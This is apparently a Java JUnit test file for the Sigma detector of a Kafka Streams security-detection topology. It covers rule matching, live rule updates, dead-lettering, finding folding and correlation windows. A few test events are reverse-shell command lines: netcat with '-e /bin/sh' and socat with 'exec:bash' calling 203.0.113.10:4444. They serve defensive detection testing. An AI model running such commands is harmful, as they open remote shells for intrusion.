package dev.bulwark.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;

import org.apache.kafka.common.serialization.Serdes;
import org.apache.kafka.streams.StreamsConfig;
import org.apache.kafka.streams.TestInputTopic;
import org.apache.kafka.streams.TestOutputTopic;
import org.apache.kafka.streams.TopologyTestDriver;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.bulwark.detection.DetectionTopology;
import dev.bulwark.detection.TenantResolver;
import dev.bulwark.schemas.ContainerInfo;
import dev.bulwark.schemas.DeadLetter;
import dev.bulwark.schemas.Finding;
import dev.bulwark.schemas.KubernetesInfo;
import dev.bulwark.schemas.SecurityEvent;
import dev.bulwark.schemas.Topics;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

/**
 * The Sigma detector in the detection topology: matching, live rule updates through the rules topic, dead-lettered
 * bad rules, folding, and each correlation type with its window boundaries and lateness. Event times are explicit;
 * the wall clock only moves when a test advances it.
 */
class SigmaDetectorTest {

    static final long T0 = 1_700_000_000_000L;

    static final String WHOAMI = """
            title: Whoami run
            id: 11111111-0000-4000-8000-000000000001
            name: whoami_run
            status: test
            level: informational
            author: Bulwark tests
            tags: [attack.discovery, attack.t1033]
            logsource: {product: linux, category: process_creation}
            detection:
                selection:
                    Image|endswith: /whoami
                condition: selection
            """;

    static final String ID = """
            title: Id run
            id: 11111111-0000-4000-8000-000000000002
            name: id_run
            level: medium
            logsource: {product: linux, category: process_creation}
            detection:
                selection:
                    Image|endswith: /id
                condition: selection
            """;

    private final Topics topics = Topics.defaults();
    private final SimpleMeterRegistry metrics = new SimpleMeterRegistry();
    private TopologyTestDriver driver;
    private TestInputTopic<String, SecurityEvent> events;
    private TestInputTopic<String, String> rules;
    private TestOutputTopic<String, Finding> findings;
    private TestOutputTopic<String, DeadLetter> deadLetters;

    @TempDir
    Path rulesDir;

    @TempDir
    Path stateDir;

    @AfterEach
    void tearDown() {
        if (driver != null) {
            driver.close();
        }
    }

    /** Starts the topology with these rule files in the rules directory (no shipped rules) and settings. */
    void start(Map<String, String> settings, String... ruleFiles) throws IOException {
        for (int i = 0; i < ruleFiles.length; i++) {
            Files.writeString(rulesDir.resolve("rule-" + i + ".yml"), ruleFiles[i], StandardCharsets.UTF_8);
        }
        Map<String, String> config = new HashMap<>(Map.of("bundled", "false", "rules", rulesDir.toString()));
        config.putAll(settings);
        var topology = DetectionTopology.build(topics, List.of(new SigmaDetector()),
                new TenantResolver(Map.of("payments", "acme")), Map.of("sigma", config), metrics);
        Properties props = DetectionTopology.streamsConfig(topics, "dummy:9092", "sigma-test", stateDir.toString(), false);
        props.put(StreamsConfig.STATESTORE_CACHE_MAX_BYTES_CONFIG, 0);
        driver = new TopologyTestDriver(topology, props, Instant.ofEpochMilli(T0));
        events = driver.createInputTopic(topics.events().name(), Serdes.String().serializer(),
                topics.events().valueSerde().serializer());
        rules = driver.createInputTopic(topics.rules().name(), Serdes.String().serializer(), Serdes.String().serializer());
        findings = driver.createOutputTopic(topics.findings().name(), Serdes.String().deserializer(),
                topics.findings().valueSerde().deserializer());
        deadLetters = driver.createOutputTopic(topics.deadLetters().name(), Serdes.String().deserializer(),
                topics.deadLetters().valueSerde().deserializer());
    }

    /** An exec event in container {@code container} of pod payments/api at {@code T0 + offset}. */
    static SecurityEvent exec(String id, long offsetMillis, String container, String executable, String commandLine) {
        return SecurityEvent.newBuilder(SigmaTestSupport.exec(executable, commandLine))
                .setId(id)
                .setTimestamp((T0 + offsetMillis) * 1_000_000L)
                .setContainer(ContainerInfo.newBuilder().setId(container).setImageName("docker.io/library/alpine").build())
                .setKubernetes(KubernetesInfo.newBuilder().setNamespace("payments").setPod("api-" + container).build())
                .build();
    }

    void pipe(SecurityEvent event) {
        long millis = event.getTimestamp() / 1_000_000L;
        events.pipeInput("container/" + event.getContainer().getId(), event, Instant.ofEpochMilli(millis));
    }

    void whoami(String id, long offsetMillis) {
        pipe(exec(id, offsetMillis, "c1", "/usr/bin/whoami", "whoami"));
    }

    double counter(String name) {
        return metrics.counter(name).count();
    }

    // ---------------------------------------------------------------- topology

    @Test
    void shouldKeepStoreAndInternalTopicNamesStable() {
        var topology = DetectionTopology.build(topics, List.of(new SigmaDetector()), TenantResolver.none(),
                Map.of("sigma", Map.of("bundled", "false")), metrics);
        String described = topology.describe().toString();
        assertThat(described).contains("sigma-rules-source", "stores: [sigma-rules]", "sigma-match",
                "sigma-rule-rejections", "sigma-fold-repartition", "sigma-fold-findings", "sigma-fold-dirty",
                "sigma-correlation-repartition", "sigma-correlate", "sigma-correlation-windows",
                "sigma-correlation-fold-dirty", "sigma-dead-letter-sink", "topics: [bulwark.rules]");
    }

    // ---------------------------------------------------------------- matching

    @Test
    void shouldEmitFindingWithRuleMetadataEvidenceAndTriggeringEvent() throws IOException {
        start(Map.of(), Files.readString(Path.of("src/test/resources/sigma/rule-tests/proc_creation_lnx_netcat_reverse_shell.yml")));

        pipe(exec("e1", 0, "c1", "/usr/bin/nc", "/usr/bin/nc 203.0.113.10 4444 -e /bin/sh"));

        List<Finding> emitted = findings.readValuesToList();
        assertThat(emitted).hasSize(1);
        Finding finding = emitted.get(0);
        assertThat(finding.getDetector()).isEqualTo("sigma");
        assertThat(finding.getRule().getId()).isEqualTo("7f734ed0-4f47-46c0-837f-6ee62505abd9");
        assertThat(finding.getRule().getName()).isEqualTo("Potential Netcat Reverse Shell Execution");
        assertThat(finding.getSeverity()).isEqualTo("high");
        assertThat(finding.getRiskScore()).isEqualTo(73);
        assertThat(finding.getMitre().getTactics()).containsExactly("execution");
        assertThat(finding.getMitre().getTechniques()).containsExactly("T1059");
        assertThat(finding.getTenant()).isEqualTo("acme");
        assertThat(finding.getContainerId()).isEqualTo("c1");
        assertThat(finding.getCount()).isEqualTo(1);
        assertThat(finding.getFirstSeen()).isEqualTo(T0);
        assertThat(finding.getEvidence().getEventIds()).containsExactly("e1");
        assertThat(finding.getEvidence().getFields())
                .containsEntry("process.executable", "/usr/bin/nc")
                .containsEntry("sigma.rule.author", "@d4ns4n_, Nasreddine Bencherchali (Nextron Systems)")
                .containsKey("process.command_line");
        assertThat(finding.getSummary()).contains("Potential Netcat Reverse Shell Execution").contains("payments/api-c1");
        assertThat(counter("bulwark.detect.sigma.matches")).isEqualTo(1.0);
    }

    @Test
    void shouldNotEmitForEventsThatDoNotMatch() throws IOException {
        start(Map.of(), Files.readString(Path.of("src/test/resources/sigma/rule-tests/proc_creation_lnx_netcat_reverse_shell.yml")));

        pipe(exec("e1", 0, "c1", "/usr/bin/nc", "nc -lvnp 4444"));
        pipe(exec("e2", 1, "c1", "/usr/bin/socat", "socat tcp:203.0.113.10:4444 exec:'bash -li'"));

        assertThat(findings.isEmpty()).isTrue();
        assertThat(counter("bulwark.detect.sigma.matches")).isZero();
    }

    @Test
    void shouldMapInformationalLevelToLowSeverity() throws IOException {
        start(Map.of(), WHOAMI);
        whoami("e1", 0);
        Finding finding = findings.readValue();
        assertThat(finding.getSeverity()).isEqualTo("low");
        assertThat(finding.getEvidence().getFields()).containsEntry("sigma.rule.level", "informational");
        assertThat(finding.getMitre().getTactics()).containsExactly("discovery");
        assertThat(finding.getMitre().getTechniques()).containsExactly("T1033");
    }

    @Test
    void shouldLoadTheShippedRulesByDefault() throws IOException {
        Map<String, String> bundled = Map.of("bundled", "true");
        start(bundled);
        pipe(exec("e1", 0, "c1", "/usr/bin/nc", "/usr/bin/nc 203.0.113.10 4444 -e /bin/sh"));
        assertThat(findings.readValuesToList()).extracting(f -> f.getRule().getId())
                .contains("7f734ed0-4f47-46c0-837f-6ee62505abd9");
        assertThat(metrics.get("bulwark.detect.sigma.rules").gauge().value()).isEqualTo(37.0);
    }

    // ---------------------------------------------------------------- live rule updates

    @Test
    void shouldApplyRulesAddedChangedAndDeletedOnTheTopicWhileEventsFlow() throws IOException {
        start(Map.of("fold-window", "1s"));
        whoami("e1", 0);
        assertThat(findings.isEmpty()).as("no rule yet").isTrue();

        rules.pipeInput("11111111-0000-4000-8000-000000000001", WHOAMI);
        whoami("e2", 10_000);
        assertThat(findings.readValue().getRule().getName()).isEqualTo("Whoami run");

        String changed = WHOAMI.replace("title: Whoami run", "title: Whoami or id run")
                .replace("Image|endswith: /whoami", "Image|endswith: [/whoami, /id]");
        rules.pipeInput("11111111-0000-4000-8000-000000000001", changed);
        pipe(exec("e3", 20_000, "c1", "/usr/bin/id", "id"));
        assertThat(findings.readValue().getRule().getName()).isEqualTo("Whoami or id run");

        rules.pipeInput("11111111-0000-4000-8000-000000000001", (String) null);
        whoami("e4", 30_000);
        pipe(exec("e5", 40_000, "c1", "/usr/bin/id", "id"));
        assertThat(findings.isEmpty()).as("rule deleted").isTrue();
        assertThat(deadLetters.isEmpty()).isTrue();
    }

    @Test
    void aShadowRuleRunsLiveButItsFindingsAreMarkedShadowAndFoldApartFromThePromotedRule() throws IOException {
        start(Map.of("fold-window", "1s"));
        String key = "11111111-0000-4000-8000-000000000001";
        rules.pipeInput(key, ShadowMode.mark(WHOAMI));
        whoami("e1", 0);
        Finding shadow = findings.readValue();
        assertThat(shadow.getShadow()).isTrue();
        assertThat(shadow.getRule().getId()).isEqualTo(key);

        rules.pipeInput(key, ShadowMode.unmark(ShadowMode.mark(WHOAMI)));
        whoami("e2", 10_000);
        Finding live = findings.readValue();
        assertThat(live.getShadow()).as("promoted: the next match is live").isFalse();
        assertThat(live.getId()).as("a live finding of its own, not an update of the shadow one").isNotEqualTo(shadow.getId());
        assertThat(live.getCount()).isEqualTo(1);
        assertThat(deadLetters.isEmpty()).isTrue();
    }

    @Test
    void aCorrelationCountingAShadowRuleIsShadowToo() throws IOException {
        start(Map.of(), correlation("event_count", List.of("whoami_run"), "60s", "gte: 2", ""));
        rules.pipeInput("11111111-0000-4000-8000-000000000001", ShadowMode.mark(WHOAMI));
        whoami("a1", 0);
        whoami("a2", 1_000);
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getShadow()).as("a rule under test must not alert through a live correlation").isTrue();
    }

    @Test
    void shouldLetATopicRuleReplaceAFileRuleUntilItsRecordIsDeleted() throws IOException {
        start(Map.of("fold-window", "1s"), WHOAMI);
        rules.pipeInput("11111111-0000-4000-8000-000000000001", WHOAMI.replace("title: Whoami run", "title: Tuned"));
        whoami("e1", 0);
        assertThat(findings.readValue().getRule().getName()).isEqualTo("Tuned");

        rules.pipeInput("11111111-0000-4000-8000-000000000001", (String) null);
        whoami("e2", 10_000);
        assertThat(findings.readValue().getRule().getName()).isEqualTo("Whoami run");
    }

    @Test
    void shouldApplyFiltersFromRuleFilesAndFromTheTopicAndCountWhatTheySuppress() throws IOException {
        String otherContainers = """
                title: Whoami is expected in container c2
                id: filter-c2
                logsource: {product: linux, category: process_creation}
                filter:
                    rules: [whoami_run]
                    selection:
                        container.id: c2
                    condition: not selection
                """;
        start(Map.of("fold-window", "1s"), WHOAMI, otherContainers);
        pipe(exec("e1", 0, "c2", "/usr/bin/whoami", "whoami"));
        assertThat(findings.isEmpty()).as("suppressed by the file filter").isTrue();
        assertThat(counter("bulwark.detect.sigma.filtered")).isEqualTo(1.0);
        assertThat(metrics.get("bulwark.detect.sigma.filters").gauge().value()).isEqualTo(1.0);

        rules.pipeInput("filter-root", SigmaMatchProcessorTest.NOT_ROOT);
        whoami("e2", 10_000);
        assertThat(findings.isEmpty()).as("suppressed by the filter pushed on the topic").isTrue();
        assertThat(counter("bulwark.detect.sigma.filtered")).isEqualTo(2.0);

        rules.pipeInput("filter-root", (String) null);
        whoami("e3", 20_000);
        assertThat(findings.readValue().getRule().getName()).as("the tombstone lifts it").isEqualTo("Whoami run");
        assertThat(counter("bulwark.detect.sigma.matches")).isEqualTo(1.0);
        assertThat(deadLetters.isEmpty()).isTrue();
    }

    @Test
    void shouldDeadLetterABadRuleOnceWithKeyLineAndReasonWhileOtherRulesKeepWorking() throws IOException {
        start(Map.of("fold-window", "1s"), WHOAMI);
        rules.pipeInput("11111111-0000-4000-8000-000000000002", ID);
        String bad = """
                title: Broken rule
                id: bad-rule
                logsource: {product: linux, category: process_creation}
                detection:
                    selection:
                        Image|nosuchmodifier: /bin/sh
                    condition: selection
                """;
        rules.pipeInput("bad-rule", bad);
        driver.advanceWallClockTime(Duration.ofSeconds(2));

        List<DeadLetter> letters = deadLetters.readValuesToList();
        assertThat(letters).hasSize(1);
        DeadLetter letter = letters.get(0);
        assertThat(letter.getStage()).isEqualTo("rules");
        assertThat(letter.getOrigin()).isEqualTo("bulwark.rules:bad-rule");
        assertThat(letter.getError()).startsWith("bad-rule:6:").contains("nosuchmodifier");
        assertThat(StandardCharsets.UTF_8.decode(letter.getOriginal()).toString()).isEqualTo(bad);
        assertThat(counter("bulwark.detect.sigma.rules.rejected")).isEqualTo(1.0);

        whoami("e1", 0);
        pipe(exec("e2", 1, "c2", "/usr/bin/id", "id"));
        assertThat(findings.readValuesToList()).extracting(f -> f.getRule().getName())
                .containsExactlyInAnyOrder("Whoami run", "Id run");

        driver.advanceWallClockTime(Duration.ofSeconds(2));
        whoami("e3", 10_000);
        assertThat(deadLetters.isEmpty()).as("reported once").isTrue();

        rules.pipeInput("11111111-0000-4000-8000-000000000002", "title: [unclosed");
        driver.advanceWallClockTime(Duration.ofSeconds(2));
        DeadLetter yaml = deadLetters.readValue();
        assertThat(yaml.getError()).startsWith("11111111-0000-4000-8000-000000000002:");
        pipe(exec("e4", 20_000, "c2", "/usr/bin/id", "id"));
        whoami("e5", 20_000);
        assertThat(findings.readValuesToList()).extracting(f -> f.getRule().getName())
                .as("the broken record's rule is gone, the file rule stays").containsOnly("Whoami run");
    }

    // ---------------------------------------------------------------- folding

    @Test
    void shouldFoldRepeatsOfARuleOnOneContainerAndReemitAtMostOncePerInterval() throws IOException {
        start(Map.of("fold-window", "10m", "emit-interval", "30s"), WHOAMI);

        whoami("e1", 0);
        Finding first = findings.readValue();
        assertThat(first.getCount()).isEqualTo(1);

        for (int i = 2; i <= 5; i++) {
            whoami("e" + i, i * 1_000L);
        }
        assertThat(findings.isEmpty()).as("repeats are held back within the interval").isTrue();

        driver.advanceWallClockTime(Duration.ofSeconds(31));
        List<Finding> update = findings.readValuesToList();
        assertThat(update).hasSize(1);
        Finding folded = update.get(0);
        assertThat(folded.getId()).isEqualTo(first.getId());
        assertThat(folded.getCount()).isEqualTo(5);
        assertThat(folded.getFirstSeen()).isEqualTo(T0);
        assertThat(folded.getLastSeen()).isEqualTo(T0 + 5_000);
        assertThat(folded.getEvidence().getEventIds()).containsExactly("e1", "e2", "e3", "e4", "e5");
        assertThat(counter("bulwark.detect.sigma.folded")).isEqualTo(4.0);

        driver.advanceWallClockTime(Duration.ofSeconds(31));
        assertThat(findings.isEmpty()).as("nothing new, nothing emitted").isTrue();

        whoami("e6", 6_000);
        Finding immediate = findings.readValue();
        assertThat(immediate.getCount()).as("interval passed: emitted at once").isEqualTo(6);

        pipe(exec("e7", 7_000, "c2", "/usr/bin/whoami", "whoami"));
        Finding other = findings.readValue();
        assertThat(other.getId()).as("another container, another finding").isNotEqualTo(first.getId());

        whoami("e8", 6_000 + Duration.ofMinutes(10).toMillis() + 1);
        Finding next = findings.readValue();
        assertThat(next.getId()).as("after the fold window, a new episode").isNotEqualTo(first.getId());
        assertThat(next.getCount()).isEqualTo(1);
    }

    /** A whoami exec in container c1 whose process runs as {@code user}. */
    static SecurityEvent whoamiAs(String id, long offsetMillis, String user) {
        SecurityEvent event = exec(id, offsetMillis, "c1", "/usr/bin/whoami", "whoami");
        return SecurityEvent.newBuilder(event)
                .setProcess(dev.bulwark.schemas.ProcessInfo.newBuilder(event.getProcess()).setUserName(user).build())
                .build();
    }

    @Test
    void aRuleUpdateThatRaisesTheLevelOrAddsATacticStartsANewFindingLinkedToTheOpenOne() throws IOException {
        start(Map.of("fold-window", "10m", "emit-interval", "30s"));
        String key = "11111111-0000-4000-8000-000000000001";
        rules.pipeInput(key, WHOAMI);
        whoami("e1", 0);
        Finding open = findings.readValue();
        assertThat(open.getSeverity()).isEqualTo("low");
        whoami("e2", 1_000);
        assertThat(findings.isEmpty()).as("a plain repeat folds and is held").isTrue();

        rules.pipeInput(key, WHOAMI.replace("level: informational", "level: high"));
        whoami("e3", 2_000);
        List<Finding> emitted = findings.readValuesToList();
        assertThat(emitted).extracting(Finding::getId).as("the open finding's held repeat, then the escalation")
                .containsExactly(open.getId(), emitted.get(1).getId());
        assertThat(emitted.get(0).getCount()).isEqualTo(2);
        assertThat(emitted.get(0).getSeverity()).isEqualTo("low");
        Finding raised = emitted.get(1);
        assertThat(raised.getId()).isNotEqualTo(open.getId());
        assertThat(raised.getEscalates()).isEqualTo(open.getId());
        assertThat(raised.getSeverity()).isEqualTo("high");
        assertThat(raised.getCount()).isEqualTo(1);
        assertThat(raised.getEvidence().getEventIds()).containsExactly("e3");
        assertThat(raised.getEvidence().getFields()).containsEntry("sigma.escalation", "severity low -> high")
                .containsEntry("sigma.rule.level", "high");

        rules.pipeInput(key, WHOAMI.replace("level: informational", "level: high")
                .replace("tags: [attack.discovery, attack.t1033]",
                        "tags: [attack.discovery, attack.privilege_escalation, attack.t1033]"));
        whoami("e4", 3_000);
        Finding tactic = findings.readValue();
        assertThat(tactic.getEscalates()).isEqualTo(raised.getId());
        assertThat(tactic.getMitre().getTactics()).containsExactly("discovery", "privilege-escalation");
        assertThat(tactic.getEvidence().getFields()).containsEntry("sigma.escalation", "tactic privilege-escalation");

        whoami("e5", 4_000);
        driver.advanceWallClockTime(Duration.ofSeconds(31));
        assertThat(findings.readValuesToList()).singleElement().satisfies(f -> {
            assertThat(f.getId()).isEqualTo(tactic.getId());
            assertThat(f.getCount()).isEqualTo(2);
        });
        assertThat(counter("bulwark.detect.sigma.escalated")).isEqualTo(2.0);
    }

    @Test
    void aRepeatAsAnotherUserInTheSameContainerStartsANewFinding() throws IOException {
        start(Map.of("fold-window", "10m", "emit-interval", "0s"), WHOAMI);
        pipe(whoamiAs("e1", 0, "www-data"));
        Finding open = findings.readValue();
        assertThat(open.getEvidence().getFields()).containsEntry("sigma.fold.user", "www-data");
        pipe(whoamiAs("e2", 1_000, "www-data"));
        assertThat(findings.readValue().getCount()).isEqualTo(2);

        pipe(whoamiAs("e3", 2_000, "root"));
        Finding root = findings.readValue();
        assertThat(root.getEscalates()).isEqualTo(open.getId());
        assertThat(root.getEvidence().getFields()).containsEntry("sigma.escalation", "user root")
                .containsEntry("sigma.fold.user", "root");

        pipe(whoamiAs("e4", 3_000, "www-data"));
        assertThat(findings.readValue()).satisfies(f -> {
            assertThat(f.getId()).as("a user the episode knows folds into the latest finding").isEqualTo(root.getId());
            assertThat(f.getCount()).isEqualTo(2);
        });
    }

    @Test
    void aResentEventChangesNoFoldCount() throws IOException {
        start(Map.of("fold-window", "10m", "emit-interval", "0s"), WHOAMI);
        whoami("e1", 0);
        whoami("e2", 1_000);
        assertThat(findings.readValuesToList()).extracting(Finding::getCount).containsExactly(1L, 2L);
        whoami("e2", 1_000); // the sender resends after a 503: same content, same event id
        whoami("e1", 0);
        assertThat(findings.readValuesToList()).as("nothing new to report").isEmpty();
        whoami("e3", 2_000);
        assertThat(findings.readValue().getCount()).isEqualTo(3);
        assertThat(counter("bulwark.detect.sigma.duplicates")).isEqualTo(2.0);
    }

    @Test
    void aResentEventCountsOnceInACorrelationWindow() throws IOException {
        start(Map.of(), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "gte: 3", ""));
        whoami("a1", 0);
        whoami("a2", 10_000);
        whoami("a2", 10_000);
        whoami("a1", 0);
        assertThat(correlationFindings()).as("two events, each sent twice, are not three").isEmpty();
        whoami("a3", 20_000);
        assertThat(correlationFindings()).singleElement()
                .satisfies(f -> assertThat(f.getEvidence().getEventIds()).containsExactly("a1", "a2", "a3"));
        assertThat(counter("bulwark.detect.sigma.duplicates")).isEqualTo(2.0);
    }

    @Test
    void shouldEmitTheLastUpdateWhenAnEpisodeExpires() throws IOException {
        start(Map.of("fold-window", "1m", "emit-interval", "1h", "grace", "0s"), WHOAMI);
        whoami("e1", 0);
        whoami("e2", 1_000);
        assertThat(findings.readValue().getCount()).isEqualTo(1);
        pipe(exec("e3", 120_000, "c9", "/usr/bin/whoami", "whoami"));
        findings.readValue();
        driver.advanceWallClockTime(Duration.ofSeconds(11));
        List<Finding> flushed = findings.readValuesToList();
        assertThat(flushed).hasSize(1);
        assertThat(flushed.get(0).getCount()).isEqualTo(2);
        assertThat(flushed.get(0).getContainerId()).isEqualTo("c1");
    }

    // ---------------------------------------------------------------- correlations

    static String correlation(String type, List<String> rules, String timespan, String condition, String extra) {
        StringBuilder text = new StringBuilder("title: Recon burst\nid: corr-1\nlevel: high\n"
                + "tags: [attack.discovery]\ncorrelation:\n    type: " + type + "\n    rules:\n");
        rules.forEach(r -> text.append("        - ").append(r).append('\n'));
        text.append("    group-by:\n        - User\n    timespan: ").append(timespan).append('\n');
        if (condition != null) {
            text.append("    condition:\n").append(condition.stripTrailing().indent(8));
        }
        return text.append(extra).toString();
    }

    List<Finding> allFindings() {
        return findings.readValuesToList();
    }

    List<Finding> correlationFindings() {
        return findings.readValuesToList().stream().filter(f -> f.getRule().getId().equals("corr-1")).toList();
    }

    @Test
    void shouldFireEventCountAtTheTimespanBoundaryAndNotJustOutside() throws IOException {
        start(Map.of(), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "gte: 3", ""));

        whoami("a1", 0);
        whoami("a2", 30_000);
        whoami("a3", 60_001);
        assertThat(findings.isEmpty()).as("third event 1 ms outside the timespan; base rule is not standalone").isTrue();

        whoami("a4", 90_000);
        List<Finding> fired = correlationFindings();
        assertThat(fired).as("a2, a3, a4 lie within 60 s").hasSize(1);
        Finding finding = fired.get(0);
        assertThat(finding.getEvidence().getEventIds()).containsExactly("a2", "a3", "a4");
        assertThat(finding.getSeverity()).isEqualTo("high");
        assertThat(finding.getRule().getName()).isEqualTo("Recon burst");
        assertThat(finding.getEvidence().getFields()).containsEntry("User", "root")
                .containsEntry("sigma.correlation.type", "event_count").containsEntry("sigma.correlation.events", "3");
        assertThat(finding.getFirstSeen()).isEqualTo(T0 + 30_000);
        assertThat(finding.getLastSeen()).isEqualTo(T0 + 90_000);
        assertThat(finding.getTenant()).isEqualTo("acme");
    }

    @Test
    void shouldCountEventsExactlyOneTimespanApartAsInside() throws IOException {
        start(Map.of(), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "gte: 3", ""));
        whoami("b1", 0);
        whoami("b2", 30_000);
        whoami("b3", 60_000);
        assertThat(correlationFindings()).hasSize(1);
        assertThat(counter("bulwark.detect.sigma.correlation.fired")).isEqualTo(1.0);
    }

    @Test
    void shouldKeepGroupsApart() throws IOException {
        start(Map.of(), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "gte: 2", ""));
        whoami("c1", 0);
        SecurityEvent other = exec("c2", 1_000, "c1", "/usr/bin/whoami", "whoami");
        other.getProcess().setUserName("alice");
        pipe(other);
        assertThat(correlationFindings()).isEmpty();
        whoami("c3", 2_000);
        assertThat(correlationFindings()).hasSize(1);
    }

    @Test
    void shouldFireValueCountOnDistinctValuesOnly() throws IOException {
        start(Map.of(), WHOAMI, correlation("value_count", List.of("whoami_run"), "5m", "field: CommandLine\ngte: 3", ""));
        pipe(exec("v1", 0, "c1", "/usr/bin/whoami", "whoami"));
        pipe(exec("v2", 1_000, "c1", "/usr/bin/whoami", "whoami"));
        pipe(exec("v3", 2_000, "c1", "/usr/bin/whoami", "whoami --groups"));
        assertThat(correlationFindings()).as("two distinct command lines").isEmpty();
        pipe(exec("v4", 3_000, "c1", "/usr/bin/whoami", "whoami --help"));
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("v1", "v2", "v3", "v4");
    }

    @Test
    void shouldFireTemporalInAnyOrderWithinTheTimespan() throws IOException {
        start(Map.of(), WHOAMI, ID, correlation("temporal", List.of("whoami_run", "id_run"), "60s", null, ""));
        pipe(exec("t1", 0, "c1", "/usr/bin/id", "id"));
        pipe(exec("t2", 70_000, "c1", "/usr/bin/whoami", "whoami"));
        assertThat(correlationFindings()).as("70 s apart").isEmpty();
        pipe(exec("t3", 100_000, "c1", "/usr/bin/id", "id"));
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("t2", "t3");
    }

    @Test
    void shouldFireTemporalOrderedOnlyInTheListedOrder() throws IOException {
        start(Map.of(), WHOAMI, ID, correlation("temporal_ordered", List.of("whoami_run", "id_run"), "60s", null, ""));
        pipe(exec("o1", 0, "c1", "/usr/bin/id", "id"));
        pipe(exec("o2", 10_000, "c1", "/usr/bin/whoami", "whoami"));
        assertThat(correlationFindings()).as("id before whoami").isEmpty();
        pipe(exec("o3", 20_000, "c1", "/usr/bin/id", "id"));
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("o2", "o3");
    }

    @Test
    void shouldCountAnOutOfOrderEventThatArrivesWithinTheGrace() throws IOException {
        start(Map.of("grace", "30s"), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "gte: 3", ""));
        whoami("d1", 0);
        whoami("d2", 50_000);
        whoami("d3", 90_000);
        assertThat(correlationFindings()).isEmpty();

        whoami("d4", 40_000);
        List<Finding> fired = correlationFindings();
        assertThat(fired).as("d1, d4, d2 lie within [0 s, 60 s]").hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("d1", "d4", "d2");
        assertThat(counter("bulwark.detect.sigma.correlation.late")).isZero();
    }

    @Test
    void shouldDropEventsArrivingAfterTheGraceFromTheCorrelationButStillReportTheirRuleFindings() throws IOException {
        start(Map.of("grace", "30s", "emit-interval", "0s"), WHOAMI,
                correlation("event_count", List.of("whoami_run"), "60s", "gte: 3", "    generate: true\n"));
        whoami("l1", 0);
        whoami("l2", 10_000);
        whoami("l3", 200_000);
        findings.readValuesToList();

        whoami("l4", 20_000);
        whoami("l5", 30_000);
        List<Finding> after = findings.readValuesToList();
        assertThat(after).extracting(f -> f.getRule().getId()).as("no correlation from late events")
                .doesNotContain("corr-1");
        assertThat(counter("bulwark.detect.sigma.correlation.late")).isEqualTo(2.0);
        assertThat(after).as("the late events still reached their rule's finding").isNotEmpty()
                .allMatch(f -> f.getRule().getId().equals("11111111-0000-4000-8000-000000000001"));
        assertThat(after.get(after.size() - 1).getEvidence().getEventIds()).contains("l4", "l5");
    }

    @Test
    void shouldDecideUpperBoundConditionsWhenTheIntervalIsComplete() throws IOException {
        start(Map.of("grace", "10s"), WHOAMI, correlation("event_count", List.of("whoami_run"), "60s", "lt: 3", ""));
        whoami("u1", 0);
        whoami("u2", 20_000);
        assertThat(correlationFindings()).as("undecided while the interval is open").isEmpty();

        pipe(exec("u3", 100_000, "c2", "/usr/bin/whoami", "whoami --other-group"));
        SecurityEvent otherUser = exec("u4", 100_000, "c2", "/usr/bin/whoami", "whoami");
        otherUser.getProcess().setUserName("bob");
        pipe(otherUser);
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("u1", "u2");
    }

    @Test
    void shouldFoldRepeatedFiringsOfACorrelationGroup() throws IOException {
        start(Map.of("emit-interval", "30s"), WHOAMI,
                correlation("event_count", List.of("whoami_run"), "60s", "gte: 2", ""));
        whoami("f1", 0);
        whoami("f2", 1_000);
        Finding first = correlationFindings().get(0);
        whoami("f3", 2_000);
        whoami("f4", 3_000);
        assertThat(correlationFindings()).as("second firing held back").isEmpty();
        driver.advanceWallClockTime(Duration.ofSeconds(31));
        Finding folded = correlationFindings().get(0);
        assertThat(folded.getId()).isEqualTo(first.getId());
        assertThat(folded.getCount()).isEqualTo(2);
        assertThat(folded.getEvidence().getEventIds()).containsExactly("f1", "f2", "f3", "f4");
    }

    @Test
    void aCorrelationFiringAfterItsLevelWasRaisedStartsANewFindingLinkedToTheOpenOne() throws IOException {
        String medium = correlation("event_count", List.of("whoami_run"), "60s", "gte: 2", "")
                .replace("level: high", "level: medium");
        start(Map.of("emit-interval", "30s"), WHOAMI, medium);
        whoami("f1", 0);
        whoami("f2", 1_000);
        Finding open = correlationFindings().get(0);
        assertThat(open.getSeverity()).isEqualTo("medium");

        rules.pipeInput("corr-1", medium.replace("level: medium", "level: critical"));
        whoami("f3", 2_000);
        whoami("f4", 3_000);

        assertThat(correlationFindings()).singleElement().satisfies(f -> {
            assertThat(f.getId()).isNotEqualTo(open.getId());
            assertThat(f.getEscalates()).isEqualTo(open.getId());
            assertThat(f.getSeverity()).isEqualTo("critical");
            assertThat(f.getEvidence().getEventIds()).containsExactly("f3", "f4");
        });
    }

    @Test
    void shouldStopACorrelationDeletedFromTheTopic() throws IOException {
        start(Map.of());
        rules.pipeInput("whoami", WHOAMI);
        String corr = correlation("event_count", List.of("whoami_run"), "60s", "gte: 2", "");
        rules.pipeInput("corr-1", corr);
        whoami("g1", 0);
        whoami("g2", 1_000);
        assertThat(correlationFindings()).hasSize(1);

        rules.pipeInput("corr-1", (String) null);
        whoami("g3", 2_000);
        whoami("g4", 3_000);
        List<Finding> after = findings.readValuesToList();
        assertThat(after).extracting(f -> f.getRule().getId()).as("whoami is standalone again")
                .containsOnly("11111111-0000-4000-8000-000000000001");
    }

